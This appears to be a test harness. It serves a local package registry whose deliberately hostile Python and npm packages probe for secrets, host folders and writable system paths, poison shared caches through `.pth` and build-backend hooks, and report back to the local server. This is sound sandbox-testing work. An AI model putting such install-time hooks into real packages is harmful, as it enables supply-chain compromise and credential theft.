"""A registry of packages that try at their installation what they must not. Prints its port; requests go to a log.

Arguments: the log, and folders of the host that the code of packages looks for.
"""

import base64, hashlib, http.server, io, json, sys, tarfile, zipfile

LOG, FOLDERS = sys.argv[1], sys.argv[2:]
FILES, INDEX = {}, {}

SERVER = "def main(): pass\n"

# Run by every interpreter that reads `.pth` files, once it is installed.
STAGE = """
import glob, os, socket
def tell(what):
    try:
        with socket.create_connection(('127.0.0.1', PORT), 2) as there:
            there.sendall(f'GET /ran/pth/{what} HTTP/1.0\\r\\n\\r\\n'.encode())
            there.recv(1)
    except OSError:
        pass
tell('network')
for path in glob.glob('/opt/cache/**/hm_good.py', recursive=True):
    try:
        open(path, 'a').write('POISONED = 1\\n')
    except OSError:
        pass
"""

# The code of a source package: a build backend that looks around before it builds.
BACKEND = """
import glob, os, socket, zipfile
def reach(what):
    with socket.create_connection(('127.0.0.1', PORT), 5) as there:
        there.sendall(f'GET /ran/sdist/{what} HTTP/1.0\\r\\n\\r\\n'.encode())
        there.recv(1)
def look():
    seen = []
    if any('SECRET' in name or 'planted' in value for name, value in os.environ.items()):
        seen.append('secret')
    for folder in FOLDERS:
        try:
            if os.listdir(folder):
                seen.append('folder')
        except OSError:
            pass
    for path in glob.glob('/opt/cache/**/hm_good.py', recursive=True):
        seen.append('shared')
        open(path, 'a').write('POISONED = 1\\n')
    for path in ('/usr/made', '/etc/made', '/proc/sys/kernel/made', '/opt/made'):
        try:
            open(path, 'w').close()
            seen.append('outside')
        except OSError:
            pass
    return '+'.join(sorted(set(seen))) or 'nothing'
def build_wheel(folder, config_settings=None, metadata_directory=None):
    reach(look())
    name = 'hm_source-1.0-py3-none-any.whl'
    with zipfile.ZipFile(os.path.join(folder, name), 'w') as wheel:
        wheel.writestr('hm_source.py', 'X = 1\\n')
        wheel.writestr('hm_source-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: hm-source\\nVersion: 1.0\\n')
        wheel.writestr('hm_source-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        wheel.writestr('hm_source-1.0.dist-info/RECORD', '')
    return name
"""


def add(name, file, content):
    FILES["/f/" + file] = content
    link = f'<a href="/f/{file}#sha256={hashlib.sha256(content).hexdigest()}">{file}</a>'
    INDEX.setdefault(name, []).append(link)


def wheel(name, files, needs=()):
    module, kept = name.replace("-", "_"), io.BytesIO()
    info = f"{module}-1.0.dist-info"
    needs = "".join(f"Requires-Dist: {need}\n" for need in needs)
    files = {
        f"{module}.py": SERVER,
        **files,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n{needs}",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/entry_points.txt": f"[console_scripts]\n{name} = {module}:main\n",
    }
    with zipfile.ZipFile(kept, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
        archive.writestr(f"{info}/RECORD", "".join(f"{path},,\n" for path in files) + f"{info}/RECORD,,\n")
    add(name, f"{module}-1.0-py3-none-any.whl", kept.getvalue())


def tar(top, files):
    kept = io.BytesIO()
    with tarfile.open(fileobj=kept, mode="w:gz") as archive:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{top}/{path}")
            entry.size, entry.mode = len(text), 0o755
            archive.addfile(entry, io.BytesIO(text.encode()))
    return kept.getvalue()


def npm(name, manifest, address):
    manifest = {"name": name, "version": "1.0.0", **manifest}
    content = tar("package", {"package.json": json.dumps(manifest), "s.js": "#!/usr/bin/env node\n"})
    FILES[f"/{name}/-/{name}-1.0.0.tgz"] = content
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(content).digest()).decode()
    dist = {"tarball": f"{address}/{name}/-/{name}-1.0.0.tgz", "integrity": integrity}
    listed = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {**manifest, "dist": dist}}}
    FILES["/" + name] = json.dumps(listed).encode()
    return content


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def do_GET(self):
        with open(LOG, "a") as log:
            log.write(self.path + "\n")
        path = self.path.split("?")[0]
        if path.startswith("/simple/") and path.split("/")[2] in INDEX:
            body, kind = "".join(INDEX[path.split("/")[2]]).encode(), "text/html"
        elif path in FILES:
            body, kind = FILES[path], "application/octet-stream"
        else:
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command == "GET":
            self.wfile.write(body)

    do_HEAD = do_GET


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
port = server.server_address[1]
settle = lambda code: code.replace("PORT", str(port)).replace("FOLDERS", repr(FOLDERS))
pth = {"hm_stage.py": settle(STAGE), "hm.pth": "import hm_stage\n"}
wheel("hm-good", {})
wheel("hm-pth", {"not_python.py": "def\n", **pth})
wheel("hm-both", pth, ["hm-source"])
project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
information = "Metadata-Version: 2.2\nName: hm-source\nVersion: 1.0\n"
source = {"pyproject.toml": project, "backend.py": settle(BACKEND), "PKG-INFO": information}
add("hm-source", "hm_source-1.0.tar.gz", tar("hm_source-1.0", source))
address = f"http://127.0.0.1:{port}"
FILES["/x/-/hm-dep.tgz"] = npm("hm-dep", {}, address)
npm("hm-direct", {"bin": {"hm-direct": "s.js"}, "dependencies": {"hm-dep": address + "/x/-/hm-dep.tgz"}}, address)
npm("hm-plain", {"bin": {"hm-plain": "s.js"}, "dependencies": {"hm-dep": "1.0.0"}}, address)
print(port, flush=True)
server.serve_forever()
